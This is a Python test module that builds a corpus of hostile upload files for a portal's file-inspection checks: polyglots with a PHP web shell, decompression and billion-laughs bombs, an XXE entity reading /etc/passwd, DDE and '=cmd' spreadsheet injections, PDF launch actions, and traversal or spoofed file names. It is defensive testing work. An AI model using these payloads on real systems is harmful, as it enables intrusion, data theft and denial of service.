"""The corpus: files that mean harm, each with the verdict it must get. Made in code, so that none has to be kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from antt_portal.core.tests.inspection import corpus
from antt_portal.core.tests.inspection.corpus import OOXML, relations, types

MB = 1024 * 1024
ACCEPTED = "accepted"  # harmless once it is in: under a clean name, as a file to be downloaded


@dataclass(frozen=True)
class Case:
    content: Callable[[], bytes]
    file_name: str
    verdict: str
    kept_as: str = ""


def pdf_with(change: Callable[[pikepdf.Pdf], None], **saving) -> Callable[[], bytes]:
    return lambda: corpus.pdf(change=change, **saving)


def opening(**action) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return change


def attached(name: str, content: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = content

    return change


def media_script(document: pikepdf.Pdf) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, RichMediaContent=Dictionary())
    document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_with(extra: bytes) -> bytes:
    """Another chunk behind the header of a good picture."""
    good = corpus.png()
    return good[:33] + extra + good[33:]


def text_bomb() -> bytes:
    return png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200 * MB), 9)))


def profile_bomb() -> bytes:
    return png_with(chunk(b"iCCP", b"profile\0\0" + zlib.compress(bytes(200 * MB), 9)))


def blank_page_of_pixels() -> bytes:
    """A hundred million of them in twelve kilobytes, and every one is there."""
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    return out.getvalue()


def laughs(depth: int = 9) -> str:
    """A billion laughs."""
    lines = ['<!ENTITY l0 "ha">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth + 1))]
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def quadratic() -> str:
    return f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'


def locked_zip() -> bytes:
    """The flag of every entry says that it has a password."""
    content = bytearray(corpus.docx())
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        content[at + 8] |= 1
    return bytes(content)


def nested(depth: int) -> bytes:
    inner = corpus.packed({"0.txt": bytes(1 * MB)})
    for level in range(depth):
        inner = corpus.packed({f"{level}.zip": inner}, method=zipfile.ZIP_STORED)
    return inner


def sheet(formula: str) -> bytes:
    return corpus.xlsx(rows=f"<row r='1'><c r='A1'><f>{formula}</f><v>1</v></c></row>")


def cut(content: bytes, share: float = 0.6) -> Callable[[], bytes]:
    return lambda: content[: int(len(content) * share)]


def always(content: bytes) -> Callable[[], bytes]:
    return lambda: content


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
ZIP = corpus.packed({"tep.txt": "x"})
MACRO = types(("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))
VBA = types(
    ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
)
LOCKED = pikepdf.Encryption(owner="chu", user="mo", R=6)

POLYGLOTS = {
    "PDF and zip": Case(lambda: corpus.pdf() + ZIP, "a.pdf", "foreign_data"),
    "PDF and web page": Case(lambda: corpus.pdf() + b"\n" + HTML, "a.pdf", "foreign_data"),
    "PDF behind a script": Case(lambda: b"/*\n" + corpus.pdf() + b"*/alert(1)", "a.pdf", "type_mismatch"),
    "GIF and script": Case(always(b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"), "a.png", "type_mismatch"),
    "JPEG and web page": Case(lambda: corpus.jpeg() + HTML, "a.jpg", "foreign_data"),
    "JPEG and PHP": Case(lambda: corpus.jpeg() + b"<?php system($_GET[0]);", "a.jpg", "foreign_data"),
    "JPEG and Java archive": Case(lambda: corpus.jpeg() + ZIP, "a.jpeg", "foreign_data"),
    "PNG and SVG": Case(lambda: corpus.png() + SVG, "a.png", "foreign_data"),
    "PNG and program": Case(lambda: corpus.png() + corpus.EXE, "a.png", "foreign_data"),
    "HEIC and PDF": Case(lambda: corpus.HEIC + corpus.pdf(), "a.heic", "foreign_data"),
    "Word and PDF": Case(lambda: corpus.packed({"%PDF-1.7": "x", **corpus.word_parts()}), "a.docx", "foreign_data"),
    "Word and a second zip": Case(lambda: corpus.docx() + ZIP, "a.docx", "archive_unsafe"),
    "SVG as a picture": Case(always(SVG), "a.png", "type_mismatch"),
    "web page as Word": Case(always(HTML), "a.docx", "type_mismatch"),
}
BOMBS = {
    "zip of zeros": Case(
        lambda: corpus.docx({"word/media/a.png": b"\x89PNG" + bytes(80 * MB)}), "a.docx", "archive_bomb"
    ),
    "XML of blanks": Case(
        lambda: corpus.docx({"word/styles.xml": "<x>" + " " * (80 * MB) + "</x>"}), "a.docx", "archive_bomb"
    ),
    "sheet without end": Case(lambda: corpus.xlsx(rows="<row/>" * 16_000_000), "a.xlsx", "archive_bomb"),
    "zip in zip in zip": Case(lambda: corpus.docx({"word/media/a.png": nested(4)}), "a.docx", "embedded_file"),
    "six thousand parts": Case(
        lambda: corpus.docx({f"w/{n}.xml": "<x/>" for n in range(6000)}), "a.docx", "archive_bomb"
    ),
    "PNG that claims 4 billion pixels": Case(lambda: corpus.png_header(65_000, 65_000), "a.png", "image_too_big"),
    "PNG that claims all there is": Case(lambda: corpus.png_header(2**31 - 1, 2**31 - 1), "a.png", "image_too_big"),
    "PNG with a text that swells": Case(text_bomb, "a.png", "unreadable"),
    "PNG with a profile that swells": Case(profile_bomb, "a.png", "unreadable"),
    "a picture of 100 million pixels": Case(blank_page_of_pixels, "a.png", "image_too_big"),
    "billion laughs in Word": Case(
        lambda: corpus.docx({"word/document.xml": f"{laughs()}<x>&l9;</x>"}), "a.docx", "xml_entity"
    ),
    "billion laughs in Excel": Case(
        lambda: corpus.xlsx({"xl/sharedStrings.xml": f"{laughs()}<sst>&l9;</sst>"}), "a.xlsx", "xml_entity"
    ),
    "billion laughs in SVG": Case(f"{laughs()}<svg>&l9;</svg>".encode, "a.png", "type_mismatch"),
    "quadratic blow-up": Case(
        lambda: corpus.docx({"docProps/core.xml": f"{quadratic()}<x>{'&a;' * 5000}</x>"}), "a.docx", "xml_entity"
    ),
    "entity from a file": Case(
        lambda: corpus.docx({"word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        "a.docx",
        "xml_entity",
    ),
}
RUNNING = {
    "docm": Case(corpus.docx, "a.docm", "macro"),
    "xlsm": Case(corpus.xlsx, "a.xlsm", "macro"),
    "docm called docx": Case(lambda: corpus.docx({"[Content_Types].xml": MACRO}), "a.docx", "macro"),
    "VBA in a workbook": Case(lambda: corpus.xlsx({"[Content_Types].xml": VBA}), "a.xlsx", "macro"),
    "OLE object in Word": Case(
        lambda: corpus.docx({"word/embeddings/o.bin": corpus.ole("\x01Ole10Native")}), "a.docx", "embedded_file"
    ),
    "old Word with macros": Case(lambda: corpus.ole("WordDocument", "Macros", "VBA"), "a.docx", "type_mismatch"),
    "template from the web": Case(
        lambda: corpus.docx(
            {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://x.example/a.dotm", "External"))}
        ),
        "a.docx",
        "linked_content",
    ),
    "DDE field": Case(
        lambda: corpus.docx(body='<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe "/k"</w:instrText></w:r></w:p>'),
        "a.docx",
        "active_content",
    ),
    "=cmd in a cell": Case(lambda: sheet("cmd|'/c calc'!A0"), "a.xlsx", "active_content"),
    "=cmd with its bar as a reference": Case(
        lambda: sheet("cmd&#124;&apos;/c calc&apos;!A0"), "a.xlsx", "active_content"
    ),
    "=cmd in text of a cell": Case(
        lambda: corpus.xlsx(rows="<row><c t='inlineStr'><is><t>=cmd|'/c calc'!A0</t></is></c></row>"),
        "a.xlsx",
        ACCEPTED,
    ),
    "script on opening a PDF": Case(pdf_with(opening(S=Name.JavaScript, JS="app.alert(1)")), "a.pdf", "active_content"),
    "PDF that starts a program": Case(pdf_with(opening(S=Name.Launch, F="calc.exe")), "a.pdf", "active_content"),
    "PDF with a program inside": Case(pdf_with(attached("a.exe", corpus.EXE)), "a.pdf", "embedded_file"),
    "PDF with a PDF inside": Case(pdf_with(attached("a.pdf", corpus.pdf())), "a.pdf", "embedded_file"),
    "PDF with a film": Case(pdf_with(media_script), "a.pdf", "active_content"),
    "EICAR": Case(always(corpus.EICAR), "eicar.pdf", "type_mismatch"),
    "EICAR by its own name": Case(always(corpus.EICAR), "eicar.com", "unknown_type"),
    "program": Case(always(corpus.EXE), "setup.exe", "unknown_type"),
    "program called PDF": Case(always(corpus.EXE), "hoa-don.pdf", "type_mismatch"),
}
SHUT = {
    "PDF with a password": Case(pdf_with(lambda _pdf: None, encryption=LOCKED), "a.pdf", "encrypted"),
    "Word with a password": Case(lambda: corpus.ole("EncryptionInfo", "EncryptedPackage"), "a.docx", "encrypted"),
    "Excel with a password": Case(lambda: corpus.ole("EncryptionInfo", "EncryptedPackage"), "a.xlsx", "encrypted"),
    "zip with a password": Case(locked_zip, "a.docx", "encrypted"),
    "a PDF cut off": Case(cut(corpus.pdf(pages=20)), "a.pdf", "unreadable"),
    "a JPEG cut off": Case(cut(corpus.jpeg(size=(400, 300))), "a.jpg", "unreadable"),
    "a PNG cut off": Case(cut(corpus.png(size=(400, 300))), "a.png", "unreadable"),
    "a HEIC cut off": Case(cut(corpus.HEIC), "a.heic", "unreadable"),
    "a Word file cut off": Case(cut(corpus.docx()), "a.docx", "unreadable"),
    "an Excel file cut off": Case(cut(corpus.xlsx()), "a.xlsx", "unreadable"),
    "nothing": Case(always(b""), "a.pdf", "empty"),
    "zeros": Case(always(bytes(5000)), "a.pdf", "type_mismatch"),
}
NAMES = {
    "climbing": Case(corpus.pdf, "../../../etc/cron.d/a.pdf", ACCEPTED, "a.pdf"),
    "climbing on Windows": Case(corpus.pdf, "..\\..\\Windows\\a.pdf", ACCEPTED, "a.pdf"),
    "absolute": Case(corpus.pdf, "/etc/passwd.pdf", ACCEPTED, "passwd.pdf"),
    "of a drive": Case(corpus.pdf, "C:\\a.pdf", ACCEPTED, "a.pdf"),
    "turned round to look like a PDF": Case(corpus.pdf, "hoa-don\u202efdp.exe", "unknown_type"),
    "turned round inside": Case(corpus.pdf, "hoa\u202edon.pdf", ACCEPTED, "hoadon.pdf"),
    "zero width": Case(corpus.pdf, "a\u200b\ufeff.pdf", ACCEPTED, "a.pdf"),
    "two extensions": Case(corpus.pdf, "a.pdf.exe", "unknown_type"),
    "very long": Case(corpus.pdf, "a" * 300 + ".pdf", ACCEPTED, "a" * 146 + ".pdf"),
    "markup": Case(corpus.pdf, "<img src=x onerror=alert(1)>.pdf", ACCEPTED, "<img src=x onerror=alert(1)>.pdf"),
    "formula": Case(corpus.pdf, "=cmd|' calc'!A0.pdf", ACCEPTED, "=cmd|' calc'!A0.pdf"),
    "template": Case(corpus.pdf, "{{ request }}{% debug %}.pdf", ACCEPTED, "{{ request }}{% debug %}.pdf"),
    "reserved": Case(corpus.pdf, "CON.pdf", ACCEPTED, "CON.pdf"),
    "no name": Case(corpus.pdf, ".pdf", ACCEPTED, "tep.pdf"),
    "no extension": Case(corpus.pdf, "bao cao", "no_extension"),
    "path in a package": Case(lambda: corpus.docx({"../../x.xml": "<x/>"}), "a.docx", "archive_unsafe"),
    "absolute path in a package": Case(lambda: corpus.docx({"/etc/x.xml": "<x/>"}), "a.docx", "archive_unsafe"),
    "mark of secrecy": Case(corpus.pdf, "Tối mật - kế hoạch.pdf", "classified"),
}
GROUPS = {"polyglots": POLYGLOTS, "bombs": BOMBS, "running": RUNNING, "shut": SHUT, "names": NAMES}
